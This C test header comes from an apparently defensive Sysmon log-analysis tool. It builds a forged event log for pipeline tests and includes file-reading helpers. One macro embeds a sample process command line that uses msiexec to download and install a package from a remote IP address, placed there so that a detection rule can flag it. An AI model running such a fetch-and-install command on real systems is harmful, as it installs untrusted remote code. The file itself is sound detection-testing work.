/* SPDX-License-Identifier: Apache-2.0 */
#ifndef EVTXHOUND_TESTING_FORGE_H
#define EVTXHOUND_TESTING_FORGE_H
/* One forged log of Sysmon's, for tests of the pipeline. Everything fails the test. */
#include "testing_files.h"

#include "evtxhound/forge.h"

/* A host A with a user u; what they do follows. */
#define FORGE_HOST                                                                                 \
	"start: 2026-01-05T08:00:00Z\n"                                                             \
	"seed: 1\n"                                                                                 \
	"hosts:\n"                                                                                  \
	"  A: {name: a.example, domain: EX, log: sysmon}\n"                                         \
	"users:\n"                                                                                  \
	"  u: {domain: EX, sid: S-1-5-21-1-2-3-1001, logon: 0x1234}\n"
/* The start of one process, which a shipped rule finds. */
#define FORGE_PROCESS                                                                              \
	"processes:\n"                                                                              \
	"  - {name: p, host: A, image: 'C:\\Windows\\System32\\cmd.exe', user: u, at: 5m,\n"        \
	"     command: 'cmd.exe /c msiexec /i http://203.0.113.9/a.msi'}\n"
#define FORGE_NOISE(processes)                                                                     \
	"noise:\n"                                                                                  \
	"  - {host: A, user: u, processes: " #processes ", from: 0m, to: 60m}\n"
#define LOG_NAME "A/Microsoft-Windows-Sysmon%4Operational.evtx"

/* Makes LOG_NAME below `folder`; how many records it has. */
static inline unsigned long forge_log(const char *folder, const char *scenario)
{
	struct err e = {0};
	struct buf told;
	unsigned long records;
	int dir = open(folder, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	assert_true(dir >= 0);
	buf_init(&told, 0);
	if (forge_scenario(view_str(scenario), "test", dir, &told, &e) < 0)
		fail_msg("%s", e.msg);
	buf_byte(&told, 0);
	records = strtoul(strchr((const char *)told.p, ':') + 1, NULL, 10);
	buf_release(&told);
	close(dir);
	return records;
}

/* The whole file; the caller releases. */
static inline struct buf read_whole(const char *path)
{
	uint8_t piece[4096];
	struct buf b;
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	assert_true(fd >= 0);
	buf_init(&b, 0);
	while ((n = read(fd, piece, sizeof(piece))) > 0)
		buf_add(&b, piece, (size_t)n);
	assert_int_equal(n, 0);
	close(fd);
	return b;
}

#endif
